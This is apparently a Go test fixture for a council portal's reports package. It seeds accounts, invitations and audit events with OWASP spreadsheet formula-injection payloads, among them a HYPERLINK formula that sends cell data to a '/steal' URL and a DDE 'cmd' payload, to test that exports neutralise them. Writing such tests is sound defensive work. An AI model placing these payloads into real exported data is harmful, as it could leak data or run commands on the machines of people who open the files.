package reports

import (
	"context"
	"fmt"
	"path/filepath"
	"testing"
	"time"

	"gatehouse/backend/batch"
	"gatehouse/backend/cache"
	"gatehouse/backend/portal"
)

// now is the fixture's clock.
var now = time.Date(2025, 6, 30, 12, 0, 0, 0, time.UTC)

func ago(d time.Duration) *time.Time { t := now.Add(-d).Truncate(time.Second); return &t }

const day = 24 * time.Hour

// person is one fixture account with its contact, latest login and invitation.
type person struct {
	id, name, email, phone, org string
	status                      portal.Status
	lastLogin                   *time.Time
	inv                         portal.InvitationStatus // "" none
	invExpired                  bool                    // pending, but past its expiry
	batch                       string
}

// The OWASP formula-injection payloads, each one person's name. The phone number of Ada is
// the value that must keep its meaning.
var injections = []string{
	"=1+1",
	"+SUM(1,2)",
	"-2+3",
	"@SUM(1,2)",
	`=HYPERLINK("http://127.0.0.1/steal?x="&A1,"Click")`,
	"\tTabbed",
	"\rCarriage",
	`=cmd|' /C calc'!A0`,
}

const adaPhone = "+44 1473 123456"

func fixturePeople() []person {
	ps := []person{
		{id: "acc_ada", name: "Ada Lovelace", email: "ada@acton.example", phone: adaPhone, org: "org_acton", status: portal.StatusActive,
			lastLogin: ago(2 * day), inv: portal.InvitationAccepted, batch: "bat_a"},
		{id: "acc_bob", name: "Bob Brown", email: "bob@acton.example", phone: "01473 000000", org: "org_acton", status: portal.StatusActive,
			lastLogin: ago(200 * day), inv: portal.InvitationAccepted, batch: "bat_a"},
		{id: "acc_cat", name: "Cat Émile", email: "cat@barham.example", org: "org_barham", status: portal.StatusInvited,
			inv: portal.InvitationPending, batch: "bat_a"},
		{id: "acc_dan", name: "Dan Dare", email: "dan@barham.example", org: "org_barham", status: portal.StatusInvited,
			inv: portal.InvitationPending, invExpired: true, batch: "bat_b"},
		{id: "acc_eve", name: "Eve Evans", email: "eve@barham.example", org: "org_barham", status: portal.StatusActive,
			lastLogin: ago(3*day + 5*time.Hour), inv: portal.InvitationAccepted},
		{id: "acc_fay", name: "Fay Pending", email: "fay@acton.example", org: "org_acton", status: portal.StatusPending},
	}
	for i, n := range injections {
		p := person{id: fmt.Sprintf("acc_inj%d", i), name: n, email: fmt.Sprintf("inj%d@acton.example", i), org: "org_acton",
			status: portal.StatusActive, phone: n}
		if i == 0 {
			p.lastLogin = ago(40 * day)
		}
		if i == 1 {
			p.status, p.inv = portal.StatusInvited, portal.InvitationRevoked
		}
		ps = append(ps, p)
	}
	return ps
}

// openFixture returns reports over a cache in t's temp dir holding the fixture.
func openFixture(t testing.TB) (*Reports, *cache.DB) {
	t.Helper()
	ctx := context.Background()
	db, err := cache.Open(ctx, filepath.Join(t.TempDir(), "cache.db"), cache.WithClock(portal.NewFixedClock(now)), cache.WithSchema(batch.Schema()))
	if err != nil {
		t.Fatal(err)
	}
	t.Cleanup(func() { db.Close() })
	created := now.Add(-365 * day)
	err = db.Apply(ctx, func(tx *cache.Tx) error {
		for _, o := range []portal.Organization{
			{ID: "org_acton", Name: "Acton Parish Council", CreatedAt: created, UpdatedAt: created, Version: 1},
			{ID: "org_barham", Name: "Barham Town Council", CreatedAt: created, UpdatedAt: created, Version: 1},
		} {
			if err := tx.UpsertOrganization(o); err != nil {
				return err
			}
		}
		// A contact who was never invited: the top of the funnel.
		if err := tx.UpsertContact(portal.Contact{ID: "con_zed", OrganizationID: "org_acton", FullName: "Zed Zero",
			Email: "zed@acton.example", CreatedAt: created, UpdatedAt: created, Version: 1}); err != nil {
			return err
		}
		for i, p := range fixturePeople() {
			cid := "con_" + p.id
			if err := tx.UpsertContact(portal.Contact{ID: cid, OrganizationID: p.org, FullName: p.name, Email: p.email,
				Phone: p.phone, CreatedAt: created, UpdatedAt: created, Version: 1}); err != nil {
				return err
			}
			if err := tx.UpsertAccount(portal.Account{ID: p.id, ContactID: cid, OrganizationID: p.org, Email: p.email,
				Name: p.name, Status: p.status, Kind: portal.KindClient, LastLoginAt: p.lastLogin,
				CreatedAt: created, UpdatedAt: created, Version: 1}); err != nil {
				return err
			}
			if p.inv == "" {
				continue
			}
			inv := portal.Invitation{ID: "inv_" + p.id, AccountID: p.id, ContactID: cid, OrganizationID: p.org,
				Email: p.email, Name: p.name, Status: p.inv, BatchID: p.batch, CreatedAt: now.Add(-time.Duration(30-i) * day),
				ExpiresAt: now.Add(7 * day), Version: 1}
			if p.invExpired {
				inv.ExpiresAt = now.Add(-day)
			}
			if p.inv == portal.InvitationAccepted {
				at := inv.CreatedAt.Add(time.Hour)
				inv.AcceptedAt = &at
			}
			if err := tx.UpsertInvitation(inv); err != nil {
				return err
			}
		}
		// An older invitation of Ada's, replaced: the table shows the latest one only.
		if err := tx.UpsertInvitation(portal.Invitation{ID: "inv_ada_old", AccountID: "acc_ada", OrganizationID: "org_acton",
			Email: "ada@acton.example", Status: portal.InvitationRevoked, BatchID: "bat_a", CreatedAt: now.Add(-60 * day),
			ExpiresAt: now.Add(-53 * day), Version: 1}); err != nil {
			return err
		}
		for _, ev := range []portal.AuditEvent{
			{ID: 1, At: now.Add(-10 * day), ActorID: "acc_admin", ActorName: "Alice Admin", Action: portal.ActionApprove,
				EntityType: "account", EntityID: "acc_eve", OrganizationID: "org_barham"},
			{ID: 2, At: now.Add(-9 * day), ActorID: "acc_admin", ActorName: "Alice Admin", Action: portal.ActionDeny,
				EntityType: "account", EntityID: "acc_inj3", OrganizationID: "org_acton", Reason: "=HYPERLINK(\"x\") not a member"},
			{ID: 3, At: now.Add(-8 * day), ActorID: "acc_root", ActorName: "Root", Action: portal.ActionApproveInstead,
				EntityType: "account", EntityID: "acc_inj3", OrganizationID: "org_acton"},
			{ID: 4, At: now.Add(-7 * day), ActorID: "acc_root", ActorName: "Root", Action: portal.ActionDeactivate,
				EntityType: "account", EntityID: "acc_bob", OrganizationID: "org_acton"},
			// A purged person: only the audit trail remembers the name.
			{ID: 5, At: now.Add(-6 * day), ActorID: "acc_root", ActorName: "Root", Action: portal.ActionDeny,
				EntityType: "account", EntityID: "acc_gone", OrganizationID: "org_acton", Reason: "Spam",
				After: []byte(`{"name":"Gone Person","email":"gone@x.example"}`)},
		} {
			if err := tx.UpsertAuditEvent(ev); err != nil {
				return err
			}
		}
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
	if _, err := db.SQL().ExecContext(ctx, `INSERT INTO batches(id, kind, name, template, state, created_at, updated_at)
		VALUES ('bat_a', 'invitation', 'A–B councils', '{}', 'done', ?, ?)`, cache.FormatTime(created), cache.FormatTime(created)); err != nil {
		t.Fatal(err)
	}
	return New(db), db
}
